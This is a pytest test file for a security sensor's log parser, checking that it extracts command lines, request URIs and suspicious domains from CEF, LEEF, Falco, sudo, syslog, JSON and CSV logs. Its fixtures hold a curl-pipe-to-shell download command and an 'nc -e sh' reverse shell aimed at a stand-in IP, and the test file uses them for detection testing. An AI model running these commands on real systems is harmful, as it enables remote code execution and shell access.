"""Lines that name their values (CEF, LEEF, Falco, key=value), commands told to syslog, and tables with a line of names."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edge_demist.sensor.detect.mapping import FieldMapping, load_rules
from edge_demist.sensor.sources.parser import LineParser
from edge_demist.sensor.sources.texts import text_object
from edge_demist.sensor.sources.timestamps import format_time
from tests.support.sensor_fakes import balanced, watch_once
from tools.sensor.fake_model import ALARM_TASKS, CATEGORY_TASKS

MAPPING = FieldMapping(load_rules(), ALARM_TASKS + CATEGORY_TASKS)
INNER = json.dumps({"CommandLine": "curl http://198.51.100.7/x.sh|sh"})
SHELL = "curl http://198.51.100.7/x.sh|sh"
NAME = "xjw8k2qpz7v1.info"
SYSLOG = "May  1 08:00:00 host "


def strings(text: str, name: str = "x.log") -> tuple[dict[str, set[str]], list[str | None]]:
    """Strings with their specialists, and the times, of a whole file."""
    parser, found, times = LineParser(name), {}, []
    for line in text.encode().split(b"\n"):
        record = parser.parse(line)
        assert not isinstance(record, str), (record, line)
        for part in (getattr(record, "parts", ()) or (record,)) if record is not None else ():
            mapped = MAPPING.apply(part)
            assert not isinstance(mapped, str), mapped
            for item in mapped:
                found.setdefault(item.text, set()).update(item.tasks)
            us = MAPPING.time_us(part)
            times.append(None if us is None else format_time(us)[5:19])
    return found, times


COMMANDS = {
    "CEF, a labelled field": f"CEF:0|CrowdStrike|FalconHost|1.0|x|y|3|externalId=a cs1Label=CommandLine cs1={SHELL} rt=1714550400000",
    "CEF, a label of two words": f"{SYSLOG}CEF:0|V|P|1|1|Process Create|3| cs4Label=Command Line cs4={SHELL} fname=a end=1714550400000",
    "LEEF 1": f"LEEF:1.0|V|P|1|15345|devTime=May 01 2024 08:00:00\tcommandLine={SHELL}\tusrName=b",
    "LEEF 2, its own delimiter": f"{SYSLOG}LEEF:2.0|V|P|1|41|^|src=192.0.2.1^commandLine={SHELL}^devTime=1714550400000",
    "LEEF 2, in hexadecimal": f"LEEF:2.0|V|P|1|41|0x5E|src=192.0.2.1^commandLine={SHELL}^devTime=1714550400000",
    "Falco": f"08:00:00.123456789: Warning Shell in a container (user=root k8s.ns=x parent=runc cmdline={SHELL} terminal=34816)",
    "Falco, new rules": f"{SYSLOG}falco: 08:00:00.123456789: Notice Shell | evt_type=execve user=root command={SHELL} terminal=0",
    "Falco, JSON without fields": json.dumps(
        {"output": f"08:00:00.123456789: Error x (user=root command={SHELL} pid=1)", "time": "2024-05-01T08:00:00Z"}
    ),
    "sudo": f"{SYSLOG}sudo:     bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND={SHELL}",
    "sudo, refused": f"{SYSLOG}sudo[99]: bob : command not allowed ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={SHELL}",
    "sudo in the journal": json.dumps(
        {"__REALTIME_TIMESTAMP": "1714550400000000", "MESSAGE": f"bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={SHELL}"}
    ),
    "sudo in the audit log": 'type=USER_CMD msg=audit(1714550400.000:7): pid=1 msg=\'cwd="/" cmd=HEX exe="sudo"\''.replace(
        "HEX", SHELL.encode().hex()
    ),
    "cron": f"{SYSLOG}CRON[99]: (root) CMD (   {SHELL})",
    "snoopy": f"{SYSLOG}snoopy[99]: [uid:0 sid:1 tty:(none) cwd:/ filename:/usr/bin/curl]: {SHELL}",
    "a shell's history": f"{SYSLOG}bash: HISTORY: PID=12 UID=0 {SHELL}",
    "logfmt": f'time="2024-05-01T08:00:00Z" level=info msg="exec" cmd="{SHELL}" pid=7',
    "structured data": f'<134>1 2024-05-01T08:00:00Z h app 1 ID [meta@1 CommandLine="{SHELL}" pid="5"] started',
    "a message in one line": f"05/01/2024 08:00:00 AM EventCode=1 UtcTime: x CommandLine: {SHELL}  CurrentDirectory: C:\\",
    "Wazuh's archives.log": "2024 May 01 08:00:00 (pc) any->EventChannel "
    + json.dumps({"win": {"system": {"systemTime": "2024-05-01T08:00:00Z"}, "eventdata": {"commandLine": SHELL}}}),
    "OpenTelemetry": json.dumps(
        {"resourceLogs": [{"scopeLogs": [{"logRecords": [{"timeUnixNano": "1714550400000000000", "body": {"stringValue": INNER}}]}]}]}
    ),
    "Loki": json.dumps({"streams": [{"stream": {"a": "b"}, "values": [["1714550400000000000", INNER]]}]}),
    "Sentinel": json.dumps({"TimeGenerated": "2024-05-01T08:00:00Z", "SyslogMessage": f"b : TTY=a ; PWD=/ ; USER=root ; COMMAND={SHELL}"}),
    "Cowrie": json.dumps({"eventid": "cowrie.command.input", "input": SHELL, "timestamp": "2024-05-01T08:00:00Z"}),
    "Santa": f"[2024-05-01T08:00:00.000Z] I santad: action=EXEC|decision=ALLOW|path=/usr/bin/curl|args={SHELL}|time=2024-05-01T08:00:00Z",
    "text under any name": json.dumps({"when": "2024-05-01T08:00:00Z", "line_content": INNER}),
    "any spelling": json.dumps(
        {"event_at": "2024-05-01T08:00:00Z", "data": {"proc": {"Process Command-Line": SHELL, "parent_cmdline": "sh"}}}
    ),
    "a longer name": json.dumps({"published": "2024-05-01T08:00:00Z", "action_process_command_line": SHELL, "causality_command_line": "x"}),
}


@pytest.mark.parametrize("name", COMMANDS)
def test_commands_in_lines_that_name_their_values(name: str) -> None:
    found, times = strings(COMMANDS[name])
    assert found == {SHELL: {"cmdline"}} and times[0] in (("05-01T08:00:00",) if name != "Falco" else (None,))


@pytest.mark.parametrize("command", ["env A=1 B=2 sh -c id", "bash -c x=$(id) ; user_x=1 sh", 'sh -c "a b"'])
def test_assignments_in_a_command_are_no_values_of_their_own(command: str) -> None:
    line = f"08:00:00.123456789: Error x (user=root command={command} parent=bash file=/x program=sh)"
    assert strings(line)[0] == {command: {"cmdline"}}


def test_escapes_of_cef() -> None:
    line = r"CEF:0|V|P|a\|b|1|n|3|request=http://a.example/x?y\=1 cs1Label=CommandLine cs1=echo a\=b C:\\x\nid suser=a"
    assert set(strings(line)[0]) >= {"/x?y=1", "echo a=b C:\\x\nid"}


REQUESTS = {
    "CEF": "CEF:0|F5|ASM|15|200|SQL|5|request=/x?y=1 requestMethod=GET requestClientApplication=curl/8 rt=May 01 2024 08:00:00",
    "FortiGate": '<189>date=2024-05-01 time=08:00:00 subtype="webfilter" hostname="a.example" url="/x?y=1" agent="curl/8"',
    "Sophos": 'device="SFW" date=2024-05-01 time=08:00:00 url="http://a.example/x?y=1" domain="a.example" user_agent="curl/8"',
    "nginx's error log": '2024/05/01 08:00:00 [error] 1#1: *5 open() failed, request: "GET /x?y=1 HTTP/1.1", host: "a.example"',
    "ModSecurity": '2024/05/01 08:00:00 [error] 1#1: *5 ModSecurity: Access denied [uri "/x?y=1"] [hostname "a.example"]',
    "PAN-OS": "May  1 08:00:00 fw 1,2024/05/01 08:00:00,1,THREAT,url,2049,2024/05/01 08:00:00" + ",x" * 24 + ',"/x?y=1",(9999),c',
    "LTSV": "time:2024-05-01T08:00:00Z\thost:a.example\treq:GET /x?y=1 HTTP/1.1\tua:curl/8",
    "Azure App Service": json.dumps({"time": "2024-05-01T08:00:00Z", "properties": json.dumps({"CsUriStem": "/x", "CsUriQuery": "y=1"})}),
    "Kubernetes": '{"requestURI": "/x?y=1", "userAgent": "curl/8", "requestReceivedTimestamp": "2024-05-01T08:00:00Z"}',
}


@pytest.mark.parametrize("name", REQUESTS)
def test_requests_in_lines_that_name_their_values(name: str) -> None:
    found, times = strings(REQUESTS[name])
    assert "uri-attack" in found["/x?y=1"] and found.get("curl/8", {"user-agent"}) == {"user-agent"} and times == ["05-01T08:00:00"]


@pytest.mark.parametrize(
    "text",
    [
        f"<134>{SYSLOG}CEF:0|Infoblox|NIOS|8|1|DNS|4|src=192.0.2.1 destinationDnsDomain={NAME}",
        f'date=2024-05-01 time=08:00:00 subtype="dns" qname="{NAME}" qtype="A"',
        f'time="2024-05-01T08:00:00Z" level=info msg="query resolved" question_name={NAME} question_type=A',
        json.dumps({"time": "2024-05-01T08:00:00Z", "properties": {"msg": f"DNS Request: 10.0.0.4:5 - 1 A IN {NAME} udp 4 false"}}),
        json.dumps({"timestamp": "2024-05-01T08:00:00Z", "domain": NAME, "root": "info"}),
        f"[2024-05-01 08:00:00]\t127.0.0.1\t{NAME}\tA\tPASS\t0ms\tresolver",
        f"frame.time_epoch,ip.src,dns.qry.name\n1714550400.0,192.0.2.1,{NAME}",
        f"timestamp,domain,query_type\n2024-05-01T08:00:00Z,{NAME},A",
        f'ts\tuid\tid.orig_h\tquery\tqtype_name\n1714550400.0\tC\t192.0.2.1\t{NAME}\tA',
    ],
)  # fmt: skip
def test_names_in_lines_that_name_their_values(text: str) -> None:
    found, times = strings(text)
    assert found[NAME] >= {"dga", "hostname-threat"} and times == ["05-01T08:00:00"]


@pytest.mark.parametrize("text", ["kernel: IN=eth0 SRC=192.0.2.1 DST=192.0.2.2 PROTO=TCP", "a = b", "x=1", 'he said "yes"', "=" * 99])
def test_text_without_telling_names_is_no_record(text: str) -> None:
    assert text_object(text.encode()) is None


ROWS = {
    "Defender": f"Timestamp,DeviceName,ProcessCommandLine\n2024-05-01T08:00:00Z,pc,{SHELL}",
    "in quotes": f'"Event Time","Machine Id","Process Command Line","Remote Url"\n"2024-05-01T08:00:00Z","a","{SHELL}",',
    "Kibana": f'"@timestamp","host.name","process.command_line"\n"May 1, 2024 @ 08:00:00.123",pc,"{SHELL}"',
    "Splunk": '"_raw","_time",host\n"{""CommandLine"": ""' + SHELL + '""}","2024-05-01T08:00:00.000+0000",h',
    "PowerShell": '#TYPE Selected.System\n"TimeCreated","Message"\n"5/1/2024 8:00:00 AM","Process Create:\nCommandLine: '
    + SHELL
    + '\nUser: x"',
    "Event Viewer": 'Level,Date and Time,Source\nInformation,5/1/2024 8:00:00 AM,Sysmon,"Create:\nCommandLine: ' + SHELL + '\nUser: x"',
    "semicolons": f"timestamp;CommandLine\n01.05.2024 08:00:00;{SHELL}",
    "bars in a cell": f'"Timestamp","RuleTitle","Details"\n"2024-05-01 08:00:00.123 +00:00","x","Cmdline: {SHELL} ¦ PID: 5"',
}


@pytest.mark.parametrize("name", ROWS)
@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_rows_of_tables(name: str, end: str) -> None:
    assert strings("\ufeff" + ROWS[name].replace("\n", end)) == ({SHELL: {"cmdline"}}, ["05-01T08:00:00"])


ROW = st.tuples(st.text(min_size=1), st.text(alphabet='ab" ,\n;|', min_size=1))


@given(st.lists(ROW, min_size=1, max_size=5), st.sampled_from(",;\t|"))
def test_rows_come_out_as_they_were_written(rows: list[tuple[str, str]], delimiter: str) -> None:
    rows = [tuple(part.replace("\0", "").replace("\r", "").replace("\n", " \n") + "x" for part in row) for row in rows]
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, quoting=csv.QUOTE_ALL, lineterminator="\n")
    writer.writerows([("CommandLine", "note"), *rows])
    parser, found = LineParser("x.csv"), []
    for line in out.getvalue().encode("utf-8", "surrogatepass").split(b"\n")[:-1]:
        if state := parser.state():  # a restart between any two lines
            parser = LineParser("x.csv")
            parser.restore(json.loads(json.dumps(state)))
        record = parser.parse(line)
        found += [tuple(record.values(name)[0] for name in ("CommandLine", "note"))] if record is not None else []
    assert found == [tuple(part.encode("utf-8", "surrogatepass").decode("utf-8", "surrogateescape") for part in row) for row in rows]


def test_a_quote_that_never_ends_costs_one_row_after_the_other(tmp_path: Path) -> None:
    lines = ["time,CommandLine", '1714550400,"sh', *("x" * 999 for _ in range(300)), f"1714550401,{SHELL}"]
    (tmp_path / "x.csv").write_text("\n".join(lines) + "\n")
    events, summary = watch_once(tmp_path, tmp_path / "x.csv", explain=False)
    assert [event["text"] for event in events] == ["sh", SHELL] and summary["skipped"]["field-count"] > 1 and balanced(summary)


def test_a_first_line_of_prose_is_no_line_of_names() -> None:
    parser = LineParser("x.log")
    assert parser.parse(b"Starting up, version 2") == "no-header" and parser.parse(b"time,CommandLine") == "no-header"


def test_escapes_that_are_no_json_are_read() -> None:
    record = rb'{"time_iso8601": "2024-05-01T08:00:00Z", "request": "GET /?q=\x3Cb\x3E\\x41 HTTP/1.1", "host": "a.example"}'
    assert r"/?q=<b>\x41" in strings(record.decode())[0]
    assert LineParser("x").parse(rb'{"a": "\xZZ"}') == "bad-json"


def test_a_command_keeps_every_word() -> None:
    assert set(strings(f"{SYSLOG}sudo: b : TTY=a ; USER=root ; COMMAND=/bin/nc 198.51.100.7 4444 -e sh")[0]) == {
        "/bin/nc 198.51.100.7 4444 -e sh"
    }


def test_the_root_s_name_is_no_error(tmp_path: Path) -> None:
    (tmp_path / "eve.json").write_text('{"timestamp":"2024-05-01T08:00:00Z","event_type":"dns","dns":{"rrname":"."}}\n')
    events, summary = watch_once(tmp_path, tmp_path / "eve.json", explain=False)
    assert summary["errors"] == 0 and {event["label"] for event in events} <= {"unknown"} and balanced(summary)


def test_columns_in_quotes_of_a_w3c_log() -> None:
    found, times = strings(
        '#Fields: date time cs-method cs-uri-path cs-uri-query cs(User-Agent)\n2024-05-01 08:00:00 GET /x y=1 "curl/8 (a b)"'
    )
    assert found == {"/x?y=1": {"uri-attack"}, "curl/8 (a b)": {"user-agent"}} and times == ["05-01T08:00:00"]
